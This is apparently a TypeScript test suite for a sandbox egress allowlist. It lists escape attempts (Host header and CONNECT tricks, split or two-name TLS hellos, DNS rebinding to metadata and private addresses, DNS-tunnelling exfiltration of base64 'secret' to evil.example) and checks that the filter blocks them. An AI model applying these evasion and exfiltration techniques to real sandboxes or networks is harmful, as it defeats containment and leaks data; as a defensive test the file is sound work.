/**
 * What a sandbox with an allowlist tries, and what gets through, with real packets. Each attempt is a row; the whole
 * table is printed. What the internet of the tests heard is compared as well: nothing may reach it that is not meant to.
 */
import assert from 'node:assert/strict'
import { createServer, type Server } from 'node:net'
import { after, before, test } from 'node:test'
import { until } from '@warren/kit/testing/until'
import type { Target } from './testing/guest.ts'
import { cannotRun, NAME_SERVER, PRIVATE_HOSTS, PUBLIC_HOST, UPLINK } from './testing/host.ts'
import { EVIL, RULED, SHOP, WILD } from './testing/internet-names.ts'
import { ENCRYPTED_HELLO, inRecords, renderHello } from './testing/render-client-hello.ts'
import { type Sandbox, World, withRules } from './testing/test-network.ts'

const RULES = [
  'shop.example',
  '*.wild.example',
  'plain.example:80',
  'xn--bcher-kva.example',
  'rebind.example',
  'metadata.example',
  'mixed.example',
  'host.example',
  'sandbox.example',
  RULED[0]!,
  `${RULED[1]}:7777`,
  '198.18.10.0/24:80',
  // Names a private address, which the operator has not allowed.
  '10.9.9.9',
  // The same, allowed.
  '172.20.0.1:80',
]
const TYPE = { A: 1, NS: 2, NULL: 10, MX: 15, TXT: 16, AAAA: 28, HTTPS: 65, ANY: 255 }

let world: World
let anna: Sandbox
let api: Server

if (cannotRun === false) {
  before(async () => {
    world = await World.open({ privateCidrs: ['172.20.0.0/16'] })
    api = createServer((socket) => socket.end('host')).listen(8080)
    anna = await world.sandbox('100.64.0.10', withRules(RULES))
    await world.sandbox('100.64.0.11')
  })
  after(async () => {
    api?.close()
    await world?.close()
  })
}

const get = (host: string, target = '/') => `GET ${target} HTTP/1.1\r\nHost: ${host}\r\n\r\n`
const http = (to: string, ...send: string[]): Target => ({ talk: to, port: 80, send })
const tls = (to: string, ...send: Buffer[]): Target => ({
  talk: to,
  port: 443,
  send: send.map((part) => part.toString('latin1')),
})
const hello = (name?: string) => Buffer.concat(inRecords(renderHello(name)))

type Row = [tried: string, target: Target, got: string | RegExp]
const OK = (address: string, host: string) => new RegExp(`^HTTP/1.1 200 OK.*${address} as ${host}$`, 's')
const FORBIDDEN = /^HTTP\/1\.1 403 Forbidden.*egress refused/s
const ALERT = Buffer.from([21, 3, 3, 0, 2, 2, 112]).toString('latin1')
const DROPPED = 'no answer'

const ROWS: Row[] = [
  ['HTTP to an allowed host', http(SHOP, get('shop.example')), OK(SHOP, 'shop.example')],
  ['the same at a forged address', http(EVIL, get('shop.example')), OK(SHOP, 'shop.example')],
  ['the same at a private address', http('10.9.9.10', get('shop.example')), DROPPED],
  ['another host at the allowed address', http(SHOP, get('evil.example')), FORBIDDEN],
  ['upper case and a last dot', http(SHOP, get('SHOP.Example.')), OK(SHOP, 'SHOP.Example.')],
  ['an IDN in its xn-- form', http(SHOP, get('xn--bcher-kva.example')), OK(SHOP, 'xn--bcher-kva.example')],
  ['an IDN in UTF-8', http(SHOP, get('b\xc3\xbccher.example')), FORBIDDEN],
  ['a subdomain of a plain rule', http(SHOP, get('www.shop.example')), FORBIDDEN],
  ['a longer name that ends alike', http(SHOP, get('notshop.example')), FORBIDDEN],
  ['a name that begins alike', http(EVIL, get('shop.example.evil.example')), FORBIDDEN],
  ['one level below a wildcard', http(EVIL, get('a.wild.example')), OK(WILD, 'a.wild.example')],
  ['three levels below a wildcard', http(EVIL, get('a.b.c.wild.example')), OK(WILD, 'a.b.c.wild.example')],
  ['the apex of a wildcard', http(WILD, get('wild.example')), FORBIDDEN],
  ['HTTP/1.0 with Host', http(SHOP, 'GET / HTTP/1.0\r\nHost: shop.example\r\n\r\n'), OK(SHOP, 'shop.example')],
  ['HTTP/1.0 without Host', http(SHOP, 'GET / HTTP/1.0\r\n\r\n'), FORBIDDEN],
  ['two Host headers', http(SHOP, 'GET / HTTP/1.1\r\nHost: shop.example\r\nHost: evil.example\r\n\r\n'), FORBIDDEN],
  [
    'an absolute request to the same host',
    http(SHOP, get('shop.example', 'http://shop.example/')),
    OK(SHOP, 'shop.example'),
  ],
  ['an absolute request to another host', http(SHOP, get('shop.example', 'http://evil.example/')), FORBIDDEN],
  ['CONNECT', http(SHOP, 'CONNECT evil.example:443 HTTP/1.1\r\nHost: shop.example\r\n\r\n'), FORBIDDEN],
  [
    'CONNECT to the allowed host',
    http(SHOP, 'CONNECT shop.example:443 HTTP/1.1\r\nHost: shop.example\r\n\r\n'),
    FORBIDDEN,
  ],
  ['a head in many segments', http(SHOP, ...get('shop.example').match(/.{1,6}/gs)!), OK(SHOP, 'shop.example')],
  [
    'two requests at once, the same host',
    http(SHOP, get('shop.example') + get('shop.example')),
    /(shop\.example.*){2}$/s,
  ],
  [
    'a second request sent ahead to another host',
    http(SHOP, get('shop.example') + get('evil.example')),
    /^(?!.*evil).*$/s,
  ],
  ['keep-alive, then another host', http(SHOP, get('shop.example'), get('evil.example')), /^(?!.*as evil).*$/s],
  ['HTTP/2 without TLS', http(SHOP, 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), FORBIDDEN],
  [
    'a TLS hello on port 80',
    http(SHOP, hello('shop.example').toString('latin1')),
    /^(HTTP\/1\.1 403|closed|no answer)/,
  ],
  ['silence on port 80', http(SHOP), DROPPED],
  ['TLS to an allowed host', tls(SHOP, hello('shop.example')), `tls ${SHOP}`],
  ['TLS at a forged address', tls(EVIL, hello('shop.example')), `tls ${SHOP}`],
  ['TLS, upper case and a last dot', tls(EVIL, hello('ShOp.ExAmPlE.')), `tls ${SHOP}`],
  ['TLS to another host', tls(SHOP, hello('evil.example')), ALERT],
  ['TLS without a name', tls(SHOP, hello()), ALERT],
  [
    'TLS with an encrypted hello alone',
    tls(SHOP, Buffer.concat(inRecords(renderHello(undefined, [ENCRYPTED_HELLO])))),
    ALERT,
  ],
  [
    'an encrypted hello behind another outer name',
    tls(SHOP, Buffer.concat(inRecords(renderHello('evil.example', [ENCRYPTED_HELLO])))),
    ALERT,
  ],
  ['a hello in records of 3 bytes', tls(EVIL, Buffer.concat(inRecords(renderHello('shop.example'), 3))), `tls ${SHOP}`],
  ['a hello in many records and segments', tls(EVIL, ...inRecords(renderHello('shop.example'), 11)), `tls ${SHOP}`],
  ['the other host in many records', tls(SHOP, ...inRecords(renderHello('evil.example'), 11)), ALERT],
  ['two names in one hello', tls(SHOP, Buffer.concat(inRecords(twoNames('shop.example', 'evil.example')))), ALERT],
  ['TLS to a host that has port 80 only', tls(SHOP, hello('plain.example')), ALERT],
  ['HTTP to a host that has port 80 only', http(EVIL, get('plain.example')), OK(SHOP, 'plain.example')],
  ['SSH on port 443', tls(SHOP, Buffer.from('SSH-2.0-x\r\n')), ALERT],
  ['HTTP on port 443', tls(SHOP, Buffer.from(get('shop.example'))), ALERT],
  ['an allowed name that leads to a private address', http(SHOP, get('rebind.example')), FORBIDDEN],
  ['one that leads to the metadata service', http(SHOP, get('metadata.example')), FORBIDDEN],
  ['one that leads to this host', http(SHOP, get('host.example')), FORBIDDEN],
  ['one that leads to another sandbox', http(SHOP, get('sandbox.example')), FORBIDDEN],
  ['one that leads to a private and a public address', http(EVIL, get('mixed.example')), OK(SHOP, 'mixed.example')],
  ['an allowed address, any port', { tcp: RULED[0]!, port: 80 }, `hello ${UPLINK.address}`],
  // Port 80 belongs to the proxy, which waits for a name.
  ['an allowed address and port, another port', { tcp: RULED[1]!, port: 80 }, DROPPED],
  ['an allowed block and port', { tcp: RULED[2]!, port: 80 }, `hello ${UPLINK.address}`],
  ['an allowed block, another port', { tcp: RULED[2]!, port: 9000 }, DROPPED],
  ['an address that no rule names', { tcp: PUBLIC_HOST, port: 9000 }, DROPPED],
  ['a private address a rule names, operator silent', { tcp: '10.9.9.9', port: 80 }, DROPPED],
  ['a private address a rule names, operator agrees', { tcp: '172.20.0.1', port: 80 }, `hello ${UPLINK.address}`],
  ['the same at another port', { tcp: '172.20.0.1', port: 9000 }, DROPPED],
  ['the metadata service', { tcp: '169.254.169.254', port: 80 }, DROPPED],
  ['the API of this host', { tcp: '169.254.1.1', port: 8080 }, DROPPED],
  ['the API at another address of this host', { tcp: UPLINK.address, port: 8080 }, DROPPED],
  ['another sandbox', { tcp: '100.64.0.11', port: 9000 }, DROPPED],
  ['another sandbox, port 80', { tcp: '100.64.0.11', port: 80 }, DROPPED],
  ['a question for an allowed name', { ask: 'shop.example', type: TYPE.A }, `NOERROR ${SHOP}`],
  ['in upper case', { ask: 'SHOP.EXAMPLE', type: TYPE.A }, `NOERROR ${SHOP}`],
  ['over TCP', { ask: 'shop.example', type: TYPE.A, overTcp: true }, `NOERROR ${SHOP}`],
  ['to another name server', { ask: 'shop.example', type: TYPE.A, server: '198.18.77.77' }, `NOERROR ${SHOP}`],
  ['its IPv6 address', { ask: 'shop.example', type: TYPE.AAAA }, 'NOERROR'],
  ['its HTTPS record', { ask: 'shop.example', type: TYPE.HTTPS }, 'NOERROR'],
  ['a name that no rule names', { ask: 'evil.example', type: TYPE.A }, 'NXDOMAIN'],
  ['data in a name, TXT', { ask: 'c2VjcmV0.t1.evil.example', type: TYPE.TXT }, 'NXDOMAIN'],
  ['data in a name, TXT over TCP', { ask: 'c2VjcmV0.t2.evil.example', type: TYPE.TXT, overTcp: true }, 'NXDOMAIN'],
  ['data in a name, NULL', { ask: 'c2VjcmV0.t3.evil.example', type: TYPE.NULL }, 'NXDOMAIN'],
  ['data in a name, MX', { ask: 'c2VjcmV0.t4.evil.example', type: TYPE.MX }, 'NXDOMAIN'],
  ['data in a name, NS', { ask: 'c2VjcmV0.t5.evil.example', type: TYPE.NS }, 'NXDOMAIN'],
  ['data in a name, ANY', { ask: 'c2VjcmV0.t6.evil.example', type: TYPE.ANY }, 'NXDOMAIN'],
  [
    'data in a name, at a public server',
    { ask: 'c2VjcmV0.t7.evil.example', type: TYPE.TXT, server: NAME_SERVER.address },
    'NXDOMAIN',
  ],
  ['below an allowed host', { ask: 'c2VjcmV0.t8.shop.example', type: TYPE.TXT }, 'NXDOMAIN'],
  ['the apex of a wildcard, TXT', { ask: 'wild.example', type: TYPE.TXT }, 'NXDOMAIN'],
  ['the root', { ask: 'example', type: TYPE.NS }, 'NXDOMAIN'],
  ['QUIC to an allowed host', { udp: SHOP, port: 443, text: 'quic' }, 'sent'],
  ['UDP to an allowed address and port', { udp: RULED[1]!, port: 7777, text: 'ruled' }, 'sent'],
  ['UDP to an allowed address, QUIC', { udp: RULED[0]!, port: 443, text: 'quic-ruled' }, 'sent'],
  ['UDP to any other', { udp: PUBLIC_HOST, port: 7777, text: 'evil' }, 'sent'],
]

test('every way out that was tried, and what got through', { skip: cannotRun }, async (t) => {
  const outcomes = await anna.guest.probe(...ROWS.map(([, target]) => target))

  const wrong: string[] = []
  for (const [index, [tried, , expected]] of ROWS.entries()) {
    const got = outcomes[index]!
    const passes = typeof expected === 'string' ? got === expected : expected.test(got)
    t.diagnostic(`${passes ? 'ok  ' : 'BAD '} ${tried}: ${summary(got)}`)
    if (!passes) wrong.push(`${tried}: ${JSON.stringify(got)}, not ${expected}`)
  }
  assert.deepEqual(wrong, [])
})

test('the internet heard only what was meant for it', { skip: cannotRun }, async () => {
  const mine = ['quic-ruled', 'ruled'].map((text) => `${text} from ${UPLINK.address}`)
  await until(async () => (await world.internet.seen()).filter((one) => mine.includes(one)).length === mine.length)
  const allowed = [
    /^http 198\.18\.6\.6 as (shop\.example|SHOP\.Example\.|xn--bcher-kva\.example|plain\.example|mixed\.example)$/,
    /^http 198\.18\.6\.7 as (a|a\.b\.c)\.wild\.example$/,
    /^tls 198\.18\.6\.6$/,
    /^(quic-)?ruled from /,
    /^asked (shop|plain|xn--bcher-kva|rebind|metadata|mixed|host|sandbox)\.example 1$/,
    /^asked (a|a\.b\.c)\.wild\.example 1$/,
  ]

  assert.deepEqual(
    (await world.internet.seen()).filter((one) => !allowed.some((pattern) => pattern.test(one))),
    [],
  )
})

test('what was refused is told, with the reason', { skip: cannotRun }, async () => {
  const { decisions, flows } = await world.network.slots.report(anna.slot)
  const told = decisions.map(({ via, destination, port, reason }) => `${via} ${destination} ${port} ${reason}`)

  for (const expected of [
    'dns evil.example 53 not_allowed',
    'dns c2vjcmv0.t1.evil.example 53 not_allowed',
    'http evil.example 80 not_allowed',
    'http rebind.example 80 private_address',
    'http host.example 80 private_address',
    'http sandbox.example 80 private_address',
    'http shop.example 80 other_host',
    'http  80 no_server_name',
    'tls evil.example 443 not_allowed',
    'tls  443 no_server_name',
    'tls plain.example 443 not_allowed',
    `packet ${PUBLIC_HOST} 7777 not_allowed`,
    `packet ${SHOP} 443 not_allowed`,
    'packet 169.254.169.254 80 private_address',
    'packet 100.64.0.11 80 not_a_peer',
  ]) {
    assert.ok(told.includes(expected), `${expected} is not in\n${told.join('\n')}`)
  }
  const went = flows.map(({ destination, port, protocol }) => `${protocol} ${destination} ${port}`)
  for (const expected of ['tcp shop.example 443', `tcp ${RULED[0]} 80`, `udp ${RULED[1]} 7777`]) {
    assert.ok(went.includes(expected), `${expected} is not in ${went}`)
  }
  assert.ok(!went.some((one) => one.includes('evil')))
})

test('none is nothing, and an empty list is everything public', { skip: cannotRun }, async () => {
  const targets: Target[] = [
    http(EVIL, get('evil.example')),
    tls(SHOP, hello('evil.example')),
    { tcp: PUBLIC_HOST, port: 80 },
    { ask: 'evil.example', type: TYPE.A },
    ...PRIVATE_HOSTS.map((tcp) => ({ tcp, port: 80 })),
  ]

  await world.network.slots.change(anna.slot, withRules(['none'], { revision: 1 }))
  const none = await anna.guest.probe(...targets)
  await world.network.slots.change(anna.slot, withRules([], { revision: 2 }))
  const open = await anna.guest.probe(...targets)

  assert.deepEqual(none, [DROPPED, DROPPED, DROPPED, 'NXDOMAIN', ...PRIVATE_HOSTS.map(() => DROPPED)])
  assert.match(open[0]!, OK(EVIL, 'evil.example'))
  assert.deepEqual(open.slice(1, 4), [`tls ${SHOP}`, `hello ${UPLINK.address}`, `NOERROR ${EVIL}`])
  assert.deepEqual(
    open.slice(4),
    PRIVATE_HOSTS.map(() => DROPPED),
  )
})

/** A list of names with two entries, lengths right. */
function twoNames(one: string, other: string): Buffer {
  const message = renderHello(one)
  const entry = Buffer.concat([Buffer.from([0, 0, other.length]), Buffer.from(other)])
  const whole = Buffer.concat([message, entry])
  const grow = (at: number, bytes: number) => whole.writeUIntBE(whole.readUIntBE(at, bytes) + entry.length, at, bytes)
  const nameAt = message.length - one.length
  grow(1, 3)
  for (const at of [nameAt - 11, nameAt - 7, nameAt - 5]) grow(at, 2)
  return whole
}

const summary = (text: string): string =>
  JSON.stringify(text.split('\r\n')[0] === text ? text : `${text.split('\r\n')[0]} … ${text.split('\r\n').at(-1)}`)
